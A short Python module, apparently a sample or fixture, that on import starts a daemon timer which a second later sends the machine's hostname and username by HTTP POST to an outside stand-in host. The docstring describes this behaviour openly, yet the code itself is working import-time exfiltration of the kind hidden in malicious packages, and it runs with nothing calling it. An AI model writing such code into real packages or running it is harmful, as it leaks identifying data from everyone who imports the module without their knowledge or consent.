"""On import: a timer is made with a function that gathers the host and user and sends them,
and started at once; the function runs a second later, in the importing process."""
import getpass
import socket
import threading

import requests


def _send() -> None:
    requests.post(
        "https://collect.example.invalid/hit",
        json={"host": socket.gethostname(), "user": getpass.getuser()},
        timeout=5,
    )


_later = threading.Timer(1.0, _send)
_later.daemon = True
_later.start()
